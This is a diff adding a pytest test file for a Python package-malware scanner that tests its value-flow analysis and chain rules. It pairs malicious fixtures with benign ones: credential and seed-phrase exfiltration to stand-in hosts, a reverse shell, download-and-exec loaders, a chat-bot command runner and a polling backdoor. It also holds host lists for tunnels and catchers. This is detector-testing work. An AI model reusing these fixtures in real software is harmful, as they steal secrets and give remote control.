@@ -1,0 +1,617 @@
+"""Value-flow analysis and the chain rules built on it: one positive and one benign case per rule,
+plus properties of the analysis itself.
+
+Every payload is inert and only read as bytes: addresses are TEST-NET (192.0.2.0/24), loopback or
+`.invalid`; a host of a throwaway class appears only as text handed to `classify_host`.
+"""
+
+from __future__ import annotations
+
+import ast
+import itertools
+import textwrap
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from custody.scan import Scanner, ScanTask, Verdict
+from custody.scan.chain_rules import CHAIN_RULES, Reach
+from custody.scan.flow import Flow, Sink, Source, analyse_flows
+from custody.scan.hosts import HostClass, classify_host, host_of
+from tests.scan.builders import DEFAULT_NAME, write_sdist
+
+
+def flows_of(source: str) -> list[Flow]:
+    tree = ast.parse(textwrap.dedent(source))
+    aliases: dict[str, str] = {}
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Import):
+            for alias in node.names:
+                aliases[alias.asname or alias.name.split(".")[0]] = alias.name.split(".")[0]
+        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
+            for alias in node.names:
+                aliases[alias.asname or alias.name] = f"{node.module}.{alias.name}"
+
+    def resolve(expr: ast.expr) -> str:
+        parts: list[str] = []
+        while isinstance(expr, ast.Attribute):
+            parts.append(expr.attr)
+            expr = expr.value
+        if not isinstance(expr, ast.Name):
+            return ""
+        parts.append(aliases.get(expr.id, expr.id))
+        return ".".join(reversed(parts))
+
+    constants = {
+        n.targets[0].id: n.value
+        for n in ast.walk(tree)
+        if isinstance(n, ast.Assign) and len(n.targets) == 1 and isinstance(n.targets[0], ast.Name)
+    }
+    imports = {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
+    imports |= {n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module}
+    # The request itself (a flow of every send to a hard-coded host) is tested through the engine.
+    return [f for f in analyse_flows(tree, resolve, constants, imports) if f.source is not Source.REQUEST]
+
+
+def scan_package(tmp_path: Path, files: dict[str, str]) -> tuple[Verdict, list[str]]:
+    path = write_sdist(tmp_path, {k: textwrap.dedent(v) for k, v in files.items()})
+    (result,) = Scanner().scan_task(ScanTask(str(path)))
+    return result.verdict, [f"{f.rule}:{f.severity.value}:{f.reason}" for f in result.findings]
+
+
+# ---- hosts --------------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("address", "expected"),
+    [
+        ("http://192.0.2.7:8080/x", HostClass.RAW_IP),
+        ("https://8.8.8.8/", HostClass.RAW_IP),
+        ("http://127.0.0.1:5000", HostClass.LOCAL),
+        ("http://10.1.2.3/api", HostClass.LOCAL),
+        ("http://169.254.169.254/latest/meta-data/", HostClass.METADATA),
+        ("https://0123abcd.mockapi.io/users", HostClass.MOCK_API),
+        ("https://abc.ngrok-free.app/collect", HostClass.TUNNEL),
+        ("https://x.trycloudflare.com", HostClass.TUNNEL),
+        ("https://eo1.m.pipedream.net", HostClass.CATCHER),
+        ("https://q.duckdns.org:8443/", HostClass.DYNAMIC_DNS),
+        ("https://discord.com/api/webhooks/1/abc", HostClass.CHAT),
+        ("https://pastebin.com/raw/abc", HostClass.PASTE),
+        ("https://raw.githubusercontent.com/a/b/main/x.py", HostClass.PASTE),
+        ("https://worker.name.workers.dev/", HostClass.SERVERLESS),
+        ("poc.9oyng069p25x4kmle5dlnypj1a71vujj.b.nf", HostClass.CATCHER),
+        ("https://api.openai.com/v1/chat", HostClass.OTHER),
+        ("https://files.pythonhosted.org/packages/x", HostClass.OTHER),
+        ("https://d1234abcd5678.cloudfront.net/model.bin", HostClass.OTHER),
+    ],
+)
+def test_host_classes(address: str, expected: HostClass) -> None:
+    host = host_of(address)
+    assert host is not None
+    assert classify_host(host) is expected
+
+
+def test_host_of_rejects_text_that_names_no_host() -> None:
+    assert host_of("just some words") is None
+    assert host_of("{base}/api") is None
+
+
+# ---- the analysis -------------------------------------------------------------------------------
+def test_parameter_secret_reaches_send_through_containers_and_fstrings() -> None:
+    flows = flows_of(
+        """
+        import requests
+        def perm(private_key):
+            data = [{"k": f"key={private_key}"}]
+            body = {}
+            body["payload"] = "|".join(str(x) for x in data)
+            requests.post("http://192.0.2.10/t", json=body)
+        """
+    )
+    assert [(f.source, f.sink, f.destination.host_class) for f in flows] == [
+        (Source.WALLET_SECRET, Sink.NETWORK, HostClass.RAW_IP)
+    ]
+
+
+def test_flow_follows_helpers_and_the_address_the_caller_passes() -> None:
+    flows = flows_of(
+        """
+        import json, os, urllib.request
+        def post(url, data):
+            req = urllib.request.Request(url, data=json.dumps(data).encode())
+            return urllib.request.urlopen(req)
+        def collect():
+            path = os.path.join(os.path.expanduser("~"), ".aws/credentials")
+            with open(path) as handle:
+                return handle.read()
+        def run():
+            post("http://192.0.2.5:3000/c", {"c": collect()})
+        """
+    )
+    assert any(
+        f.source is Source.SECRET_FILE and f.sink is Sink.NETWORK and f.destination.host == "192.0.2.5"
+        for f in flows
+    ), flows
+
+
+def test_caller_source_through_stack_frames() -> None:
+    flows = flows_of(
+        """
+        import inspect, requests
+        def register():
+            for frame in inspect.stack():
+                with open(frame.filename) as f:
+                    content = f.read()
+                requests.post("http://192.0.2.9/r", data={"src": content})
+        """
+    )
+    assert [f.source for f in flows] == [Source.CALLER_SOURCE]
+
+
+def test_download_reaches_exec_through_a_variable_and_a_helper() -> None:
+    flows = flows_of(
+        """
+        import requests
+        def fetch(u):
+            return requests.get(u).text
+        def go():
+            code = fetch("https://example.invalid/s.py")
+            exec(code)
+        """
+    )
+    assert [(f.source, f.sink) for f in flows] == [(Source.DOWNLOAD, Sink.EXEC)]
+
+
+def test_signing_with_a_key_is_not_sending_it() -> None:
+    flows = flows_of(
+        """
+        import requests
+        RPC = "https://rpc.example.invalid"
+        def transfer(private_key, to, amount):
+            tx = {"to": to, "value": amount}
+            signed = account.sign_transaction(tx, private_key)
+            requests.post(RPC, json={"tx": signed.raw})
+            return hashlib.sha256(private_key).hexdigest()
+        """
+    )
+    assert flows == []
+
+
+def test_values_that_never_meet_a_sink_make_no_flow() -> None:
+    flows = flows_of(
+        """
+        import os, socket, requests
+        def info():
+            host = socket.gethostname()
+            print(host, os.environ)
+        def ping(url):
+            return requests.get(url, timeout=3)
+        """
+    )
+    assert flows == []
+
+
+_NAMES = st.sampled_from(["a", "b", "c", "d", "data", "x"])
+
+
+@st.composite
+def _programs(draw: st.DrawFn) -> tuple[str, bool]:
+    """Random chains of assignments from a secret file read to a send (or not), in random order,
+    with unrelated statements mixed in; returns the program and whether the secret reaches the send.
+    """
+    chain = draw(st.lists(_NAMES, min_size=1, max_size=5, unique=True))
+    lines = [f"{chain[0]} = open('/home/u/.ssh/id_rsa').read()"]
+    for prev, cur in itertools.pairwise(chain):
+        form = draw(
+            st.sampled_from(["{p}", "f'{{{p}}}'", "str({p})", "[{p}]", "{{'k': {p}}}", "'-'.join({p})"])
+        )
+        lines.append(f"{cur} = " + form.format(p=prev))
+    noise = draw(st.lists(st.sampled_from(["y = 1", "z = len('abc')", "w = [1, 2]"]), max_size=3))
+    connected = draw(st.booleans())
+    sent = chain[-1] if connected else "'nothing'"
+    body = draw(st.permutations(lines + noise))
+    program = "import requests\ndef f():\n" + "".join(f"    {line}\n" for line in body)
+    program += f"    requests.post('http://192.0.2.1/', data={sent})\n"
+    return program, connected
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(_programs())
+def test_property_flow_found_exactly_when_the_value_is_connected(case: tuple[str, bool]) -> None:
+    """Flow-insensitive within a scope: statement order never matters, connection always does."""
+    program, connected = case
+    found = [f for f in flows_of(program) if f.source is Source.SECRET_FILE]
+    assert bool(found) is connected, program
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text(max_size=300))
+def test_property_analysis_never_crashes_on_parsable_text(text: str) -> None:
+    try:
+        tree = ast.parse(text)
+    except (SyntaxError, ValueError):
+        return
+    analyse_flows(tree, lambda _e: "", {}, set())
+
+
+# ---- chain rules through the whole engine -------------------------------------------------------
+def test_every_chain_rule_names_a_catalogued_rule() -> None:
+    from custody.scan import RULES
+
+    assert {rule.id for rule in CHAIN_RULES} <= set(RULES)
+    assert {rule.reach for rule in CHAIN_RULES} >= {Reach.THROWAWAY, Reach.FOREIGN, Reach.COMPUTED}
+
+
+def test_exfil_flow_in_called_code_to_a_bare_ip_is_malicious(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "from .main import perm\n",
+            f"{DEFAULT_NAME}/main.py": """
+                import requests
+                def perm(mnemonic):
+                    requests.post("http://192.0.2.44/w", data={"m": mnemonic})
+                    return True
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") for f in findings), findings
+
+
+def test_exfil_flow_benign_api_client_sends_its_token_to_a_parameter_url(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/client.py": """
+                import os, requests
+                class Client:
+                    def __init__(self, base_url, api_key=None, password=None):
+                        self.base_url = base_url
+                        self.api_key = api_key or os.environ.get("FIXTURE_API_KEY")
+                        self.password = password
+                    def get(self, path):
+                        return requests.get(self.base_url + path, headers={"Authorization": self.api_key})
+                    def login(self, user):
+                        return requests.post(self.base_url + "/login", json={"u": user, "p": self.password})
+            """,
+        },
+    )
+    assert verdict is Verdict.CLEAN, findings
+
+
+def test_exfil_flow_credential_file_to_foreign_host_when_called(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/cli.py": """
+                import configparser, os, requests
+                def main():
+                    config = configparser.RawConfigParser()
+                    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))
+                    keys = [config.get(s, "aws_secret_access_key") for s in config.sections()]
+                    requests.post("https://collector.example.invalid/k", json=keys)
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_exfil_flow_benign_credential_file_read_for_local_use(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/profiles.py": """
+                import configparser, os, requests
+                def profiles():
+                    config = configparser.RawConfigParser()
+                    config.read(os.path.join(os.path.expanduser("~"), ".aws/credentials"))
+                    return config.sections()
+                def status(url):
+                    return requests.get(url, timeout=5).status_code
+            """,
+        },
+    )
+    assert verdict is Verdict.CLEAN, findings
+
+
+def test_download_exec_flow_in_called_code(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/update.py": """
+                import urllib.request
+                def load(url):
+                    return urllib.request.urlopen(url).read()
+                def update():
+                    payload = load("https://example.invalid/u.py")
+                    exec(payload)
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("download-exec:critical") for f in findings), findings
+
+
+def test_download_exec_benign_download_saved_not_run(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/models.py": """
+                import urllib.request, json
+                def fetch_config(url):
+                    data = urllib.request.urlopen(url).read()
+                    return json.loads(data)
+            """,
+        },
+    )
+    assert verdict is Verdict.CLEAN, findings
+
+
+def test_remote_control_chat_handler_runs_messages(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/bot.py": """
+                import subprocess
+                import telebot
+                bot = telebot.TeleBot(token_from_config())
+                @bot.message_handler(func=lambda m: True)
+                def run(message):
+                    out = subprocess.check_output(message.text, shell=True)
+                    bot.reply_to(message, out)
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("remote-control:critical") for f in findings), findings
+
+
+def test_remote_control_benign_cli_command_runs_its_argument(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/cli.py": """
+                import subprocess
+                import typer
+                app = typer.Typer()
+                @app.command()
+                def run(command: str):
+                    subprocess.run(command, shell=True, check=True)
+            """,
+        },
+    )
+    assert not any(f.startswith("remote-control") for f in findings), findings
+    assert verdict is not Verdict.MALICIOUS, findings
+
+
+def test_reverse_shell_socket_feeds_a_shell(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/remote.py": """
+                import os, socket, subprocess
+                HOST = os.getenv("FIXTURE_HOST", "192.0.2.77")
+                def connect():
+                    s = socket.create_connection((HOST, 4444))
+                    reader = s.makefile("rb")
+                    proc = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+                    while True:
+                        data = reader.read(1)
+                        proc.stdin.write(data)
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("download-exec:critical") for f in findings), findings
+
+
+def test_reverse_shell_benign_shell_fed_local_commands(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/runner.py": """
+                import socket, subprocess
+                def run_script(lines):
+                    proc = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE)
+                    proc.communicate("\\n".join(lines).encode())
+                def ping(host):
+                    with socket.create_connection((host, 80), timeout=2) as s:
+                        return s.recv(16)
+            """,
+        },
+    )
+    assert not any(f.startswith("download-exec") for f in findings), findings
+    assert verdict is Verdict.CLEAN, findings
+
+
+def test_catcher_contact_at_import_is_a_beacon(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": """
+                import os, requests
+                URL = os.environ.get("FIXTURE_URL", "http://canarytokens.com/x/abc/p.js")
+                requests.get(URL, timeout=5)
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("install-beacon:critical") for f in findings), findings
+
+
+def test_catcher_contact_benign_only_when_called(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/hooks.py": """
+                import requests
+                def notify(event, url="https://webhook.site/00000000-0000-0000-0000-000000000000"):
+                    return requests.post(url, json={"event": event})
+            """,
+        },
+    )
+    assert verdict is not Verdict.MALICIOUS, findings
+
+
+def test_phishing_prompt_for_a_seed_phrase_sent_to_a_chat_bot(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/auth.py": """
+                import requests
+                def authorize():
+                    words = input("Enter your 12-word seed phrase to continue: ").split()
+                    text = "words: " + " ".join(words)
+                    requests.post("https://api.telegram.org/bot000:fixture/sendMessage", json={"text": text})
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") for f in findings), findings
+
+
+def test_phishing_benign_prompt_for_a_city_sent_to_a_chat_bot(tmp_path: Path) -> None:
+    _verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/weather.py": """
+                import requests
+                def ask(token):
+                    city = input("Which city? ")
+                    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", json={"text": city})
+            """,
+        },
+    )
+    assert not any(f.startswith("exfil-flow") for f in findings), findings
+
+
+def test_local_files_sent_to_a_hard_coded_webhook(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/scan.py": """
+                import re, requests
+                from pathlib import Path
+                HOOK = "https://discord.com/api/webhooks/1/fixture"
+                def hunt(root):
+                    found = []
+                    for path in Path(root).rglob("*.py"):
+                        with open(path) as handle:
+                            found += re.findall(r"token=(\\w+)", handle.read())
+                    return found
+                def report(root):
+                    for item in hunt(root):
+                        requests.post(HOOK, json={"content": item})
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_local_files_benign_uploaded_to_the_callers_url(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/upload.py": """
+                import requests
+                def upload(path, url):
+                    with open(path, "rb") as handle:
+                        return requests.put(url, data=handle.read())
+            """,
+        },
+    )
+    assert verdict is Verdict.CLEAN, findings
+
+
+def test_identity_sent_to_an_address_hidden_in_base64(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/net.py": """
+                import base64, socket, requests
+                def whoami():
+                    ip = socket.gethostbyname(socket.gethostname())
+                    requests.post(base64.b64decode(b"aHR0cDovLzE5Mi4wLjIuOS9zZXQ=").decode(), json={"ip": ip})
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_download_saved_then_started_from_a_bare_ip(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/core.py": """
+                import subprocess, requests
+                _SERVER = "192.0.2.49"
+                _URL = f"http://{_SERVER}:20578"
+                _FILE = "helper.bin"
+                def fetch():
+                    response = requests.get(_URL, stream=True)
+                    with open(_FILE, "wb") as handle:
+                        for chunk in response.iter_content(8192):
+                            handle.write(chunk)
+                    subprocess.Popen([_FILE])
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("download-exec:critical") for f in findings), findings
+
+
+def test_polling_backdoor_runs_what_a_dynamic_dns_host_says(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/agent.py": """
+                import subprocess, time, requests
+                def run(value):
+                    return subprocess.run(value, shell=True, capture_output=True).stdout
+                def poll():
+                    link = "https://fixture.duckdns.org/"
+                    while True:
+                        order = requests.get(link).text
+                        requests.post(link + "out", data={"o": run(order)})
+                        time.sleep(1)
+            """,
+        },
+    )
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_download_benign_saved_and_opened_as_data(tmp_path: Path) -> None:
+    verdict, findings = scan_package(
+        tmp_path,
+        {
+            f"{DEFAULT_NAME}/__init__.py": "",
+            f"{DEFAULT_NAME}/data.py": """
+                import json, requests
+                CACHE = "labels.json"
+                def refresh(url):
+                    with open(CACHE, "w") as handle:
+                        handle.write(requests.get(url).text)
+                    with open(CACHE) as handle:
+                        return json.load(handle)
+            """,
+        },
+    )
+    assert verdict is Verdict.CLEAN, findings
